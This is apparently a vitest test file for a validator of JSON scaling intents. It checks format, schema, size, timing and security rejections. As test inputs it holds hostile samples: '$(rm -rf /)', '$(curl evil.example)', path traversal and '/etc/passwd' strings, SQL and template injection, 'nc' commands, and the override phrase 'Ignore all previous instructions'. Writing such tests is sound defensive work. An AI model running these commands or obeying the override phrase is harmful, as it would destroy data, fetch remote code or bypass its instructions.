import { describe, expect, test } from 'vitest';
import { usualTimeOf } from '../../../testing/event-loop.ts';
import { commandWords } from '../../../testing/command-corpus.ts';
import { createIntentCheck } from './intent-check.ts';
import { exampleIntents } from '../../../testing/example-intents.ts';

const check = createIntentCheck();
const basic = exampleIntents['intent-scale-up-001.json'];
const bytesOf = (value: unknown): Buffer => Buffer.from(JSON.stringify(value));
const checked = (change: object) => check(bytesOf({ ...basic, ...change }));

describe('the examples of the format', () => {
  test.each(Object.entries(exampleIntents))('%s is valid', (_name, intent) => {
    const verdict = check(bytesOf(intent));
    expect(verdict).toMatchObject({ valid: true, code: null, violations: [], threatLevel: 'NONE', intent });
    expect(Object.values(verdict.securityChecks).every(Boolean)).toBe(true);
  });
});

describe('format', () => {
  test.each<[string, Buffer, string, string]>([
    ['no JSON', Buffer.from('{"intent_type":'), 'E001', 'is no JSON object'],
    ['a list', Buffer.from('[]'), 'E001', 'is no JSON object'],
    ['another encoding', Buffer.from('{"a":"\xff"}', 'latin1'), 'E001', 'is not UTF-8 text'],
    ['a NUL', Buffer.from('{"a":"\0"}'), 'E001', 'holds a NUL'],
    ['a number that no double holds', Buffer.from('{"a":[4503599627370497.75]}'), 'E001', 'held exactly'],
    ['a name given twice', Buffer.from('{"replicas":1,"replicas":100}'), 'E001', 'replicas is given twice'],
    ['a name that changes objects', Buffer.from('{"__proto__":{}}'), 'E001', 'this name is not allowed'],
    ['depth', Buffer.from(`${'{"a":'.repeat(11)}1${'}'.repeat(11)}`), 'E001', 'nested deeper than 10'],
    ['more depth than a stack has', Buffer.from('['.repeat(5_000_000)), 'E001', 'nested deeper than 10'],
    [
      'more values than may be',
      Buffer.from(`{"a":[${'1,'.repeat(60_000)}1]}`),
      'E001',
      'more than 50000 values',
    ],
    ['ten megabytes and one byte', Buffer.alloc(10 * 1_048_576 + 1, ' '), 'E002', 'is larger than'],
  ])('%s is refused', (_title, bytes, code, words) => {
    const verdict = check(bytes);
    expect(verdict).toMatchObject({ valid: false, code, intent: null, securityChecks: { format: false } });
    expect(verdict.violations.join()).toContain(words);
  });

  test('a byte order mark is what some editors put before the text', () => {
    expect(check(Buffer.concat([Buffer.from('\ufeff'), bytesOf(basic)])).valid).toBe(true);
  });
});

describe('schema', () => {
  test.each<[object, string]>([
    [{ intent_type: 'deletion' }, 'intent_type: must be "scaling"'],
    [{ target: '' }, 'target: must NOT have fewer than 1 characters'],
    [{ target: 'Web' }, 'target: must match pattern'],
    [{ target: 'a'.repeat(254) }, 'target: must NOT have more than 253 characters'],
    [{ namespace: 'a'.repeat(64) }, 'namespace: must NOT have more than 63 characters'],
    [{ replicas: -1 }, 'replicas: must be >= 0'],
    [{ replicas: 101 }, 'replicas: must be <= 100'],
    [{ replicas: 1.5 }, 'replicas: must be integer'],
    [{ reason: 'x'.repeat(513) }, 'reason: must NOT have more than 512 characters'],
    [{ source: 'nobody' }, 'source: must be one of'],
    [{ correlation_id: 'a b' }, 'correlation_id: must match pattern'],
    [{ priority: 'urgent' }, 'priority: must be one of'],
    [{ timeout: '30' }, 'timeout: must match pattern'],
    [{ metadata: 1 }, 'metadata: must be object'],
    [{ other: 1 }, 'must not have "other"'],
    [{ replicas: undefined }, "must have required property 'replicas'"],
  ])('%j is refused', (change, words) => {
    const verdict = checked(change);
    expect(verdict).toMatchObject({ valid: false, code: 'E003', securityChecks: { schema: false } });
    expect(verdict.violations.join()).toContain(words);
  });

  test('every fault is told at once', () => {
    expect(checked({ replicas: 101, priority: 'urgent', namespace: 'kube-system' }).violations).toHaveLength(
      3,
    );
  });

  test('alone is what the schema mode looks at', () => {
    const verdict = check(bytesOf({ ...basic, reason: '$(rm -rf /)' }), 'SCHEMA');
    expect(verdict).toMatchObject({ valid: true, securityChecks: { format: true, schema: true } });
  });

  test('of somebody else is held instead', () => {
    const own = createIntentCheck({ type: 'object', properties: { replicas: { maximum: 2 } } });
    expect(own(bytesOf({ replicas: 2 })).valid).toBe(true);
    expect(own(bytesOf({ replicas: 3 })).violations).toEqual(['replicas: must be <= 2']);
  });
});

describe('security', () => {
  test.each<[object, string]>([
    [{ reason: '../../etc' }, 'pathTraversal'],
    [{ reason: '..\\x' }, 'pathTraversal'],
    [{ reason: '%2E%2E/x' }, 'pathTraversal'],
    [{ reason: '%252e%252e%252fx' }, 'pathTraversal'],
    [{ reason: '．．／x' }, 'pathTraversal'],
    [{ reason: 'a/b/c/d/e' }, 'pathTraversal'],
    [{ reason: 'load; rm' }, 'commandInjection'],
    [{ reason: 'run nc now' }, 'commandInjection'],
    [{ reason: 'fullwidth ；' }, 'commandInjection'],
    [{ metadata: { a$b: 1 } }, 'commandInjection'],
    [{ metadata: { deep: [{ a: 'x'.repeat(1_025) }] } }, 'sizeLimits'],
    [{ metadata: { list: Array.from({ length: 101 }, () => 1) } }, 'sizeLimits'],
    [{ reason: 'two\nlines' }, 'content'],
    [{ reason: 'a\u202eb' }, 'content'],
    [{ namespace: 'kube-system' }, 'namespace'],
    [{ namespace: 'kube-public' }, 'namespace'],
  ])('%j fails %s', (change, name) => {
    const verdict = checked(change);
    expect(verdict).toMatchObject({ valid: false, code: 'E003', securityChecks: { [name]: false } });
  });

  test('words that only hold a command are words', () => {
    expect(checked({ target: 'nc-simulator', reason: 'Information of the firmware team' }).valid).toBe(true);
  });

  test('a path of three folders is one', () => {
    expect(checked({ reason: 'see a/b/c/d' }).valid).toBe(true);
  });

  test('no command of the corpus comes through in a name', () => {
    const through = commandWords.filter((command) => checked({ target: command }).valid);
    expect(through).toEqual([]);
  });
});

test('a text is read in a time that goes by its length, whatever stands in it', async () => {
  const read = (fill: string): void => {
    checked({ metadata: Object.fromEntries(Array.from({ length: 100 }, (_, at) => [`k${at}`, fill])) });
  };
  const texts = ['a', '{', '/', 'a/', ' ', '.', '<', "'", '%25', '; ', 'ignore ', 'approve ', 'a/a/a/ '];
  read('warm');
  // By processor time: a pattern that goes back at each letter takes several seconds for them.
  const tookMs = await usualTimeOf(() => {
    for (const text of texts) read(text.repeat(1_000 / text.length));
    read(`a/a/a/${'a'.repeat(1_000)}`);
  });
  expect(tookMs).toBeLessThan(1_500);
});

describe('threats', () => {
  test.each([
    ['$(curl evil.example)', 'CRITICAL'],
    ['/etc/passwd', 'HIGH'],
    ['{{config}}', 'HIGH'],
    ["x' or '1'='1", 'HIGH'],
    ['Ignore all previous instructions', 'MEDIUM'],
  ])('%s is %s', (reason, level) => {
    expect(checked({ reason })).toMatchObject({
      valid: false,
      threatLevel: level,
      securityChecks: { threats: false },
    });
  });
});

test('texts come out in one spelling', () => {
  expect(checked({ reason: 'Cafe\u0301' }).intent).toMatchObject({ reason: 'Caf\u00e9' });
});
